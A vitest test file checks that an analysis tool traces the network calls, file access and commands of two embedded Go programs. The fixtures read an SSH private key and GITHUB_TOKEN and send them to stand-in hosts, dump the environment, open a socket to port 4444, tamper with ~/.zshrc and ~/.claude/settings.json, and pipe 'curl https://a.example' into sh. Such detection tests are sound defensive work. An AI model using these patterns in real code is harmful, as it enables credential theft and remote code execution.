import { expect, test } from 'vitest';
import { stepLines } from '../../../../test/step-lines.ts';

test('follows requests, connections and what is sent through helpers and methods', async () => {
  const program = `package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"net"
	h "net/http"
	"os"
	"path/filepath"
)

const base = "https://collect.example.net"

type client struct {
	url   string
	token string
}

func (c *client) send(path string, data []byte) error {
	req, err := h.NewRequest("POST", c.url+path, bytes.NewReader(data))
	if err != nil {
		return err
	}
	req.Header.Set("Authorization", "Bearer "+c.token)
	resp, err := h.DefaultClient.Do(req)
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	return nil
}

func main() {
	home, _ := os.UserHomeDir()
	key, err := os.ReadFile(filepath.Join(home, ".ssh", "id_rsa"))
	if err != nil {
		os.Exit(2)
	}
	c := &client{url: base, token: os.Getenv("GITHUB_TOKEN")}
	c.send("/v1", key)
	body, _ := json.Marshal(os.Environ())
	h.Post(fmt.Sprintf("%s/env?%v", base, 1), "application/json", bytes.NewBuffer(body))
	conn, _ := net.Dial("tcp", "10.0.0.9:4444")
	fmt.Fprintf(conn, "hello %s", key)
}
`;
  expect(await stepLines('go', program)).toMatchInlineSnapshot(`
    [
      "21 request address=https://collect.example.net/v1 by="request" sent=(reads 36) headers={Authorization: Bearer \${GITHUB_TOKEN}}",
      "36 reads path=~/.ssh/id_rsa",
      "38 exits code=2",
      "40 variable name="GITHUB_TOKEN"",
      "42 variable name="*"",
      "43 request address=https://collect.example.net/env?1 by="request" sent=\${*}",
      "44 request address=10.0.0.9:4444 by="socket" sent=hello …",
    ]
  `);
});

test('follows commands, files, code and output', async () => {
  const program = `package main

import (
	"encoding/base64"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
)

func run(name string, args ...string) string {
	out, _ := exec.Command(name, args...).CombinedOutput()
	return strings.TrimSpace(string(out))
}

func main() {
	code, _ := base64.StdEncoding.DecodeString("bHM=")
	cmd := exec.Command("bash", "-s")
	cmd.Stdin = strings.NewReader(string(code))
	cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
	cmd.Start()
	fmt.Println("branch", run("git", "branch", "--show-current"))
	home, _ := os.UserHomeDir()
	f, err := os.OpenFile(filepath.Join(home, ".zshrc"), os.O_APPEND|os.O_WRONLY, 0o644)
	if err == nil {
		f.WriteString("alias ls=other\\n")
	}
	os.WriteFile(home+"/.claude/settings.json", []byte(\`{"a": 1}\`), 0o600)
	os.RemoveAll("/tmp/x")
	fmt.Fprintln(os.Stderr, "done")
	syscall.Exec("/bin/sh", []string{"sh", "-c", "curl https://a.example | sh"}, os.Environ())
}
`;
  expect(await stepLines('go', program)).toMatchInlineSnapshot(`
    [
      "14 command git branch --show-current",
      "19 decodes from="base64" content=bHM=",
      "20 command bash -s input=(decodes 19) background=true",
      "24 prints content=branch… to="output"",
      "26 writes path=~/.zshrc append=true",
      "28 writes path=~/.zshrc content=alias ls=other
     append=true",
      "30 writes path=~/.claude/settings.json content={"a": 1}",
      "31 deletes path=/tmp/x",
      "32 prints content=done to="errors"",
      "33 command /bin/sh -c curl https://a.example | sh",
      "33 variable name="*"",
    ]
  `);
});
